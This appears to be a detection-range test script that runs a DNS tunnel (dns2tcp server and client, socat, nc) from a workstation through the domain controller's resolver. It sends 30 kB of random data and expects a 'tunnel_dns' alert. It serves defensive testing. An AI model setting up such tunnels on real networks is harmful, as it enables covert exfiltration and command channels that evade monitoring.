# SPDX-License-Identifier: Apache-2.0
# what: 30 kB through DNS with dns2tcp, through the domain's resolver
# technique: T1572
# from: ws1
# to: dc1
# account: -
# outcome: success
# must: alert tunnel_dns
. "$RANGE_HERE/item.sh"
printf 'listen = 203.0.113.10\nport = 5302\nuser = root\nkey = k\nchroot = %s\ndomain = d.tunnel.test\nresources = s:127.0.0.1:9010\n' "$HOME" >"$HOME/d2d"
at inet socat -u TCP-LISTEN:9010,reuseaddr "OPEN:$HOME/got2,creat,trunc" &
at inet dns2tcpd -F -f "$HOME/d2d" >"$RANGE/dns2tcpd.log" 2>&1 &
sleep 1
dns2tcpc -r s -k k -l 9011 -z d.tunnel.test $dc1 >"$HOME/d2c.log" 2>&1 &
sleep 1
head -c 30000 /dev/urandom | timeout 40 nc -q 5 127.0.0.1 9011
sleep 3
ls -l "$HOME/got2"; cat "$HOME/d2c.log"
[ "$(stat -c %s "$HOME/got2")" -ge 20000 ]
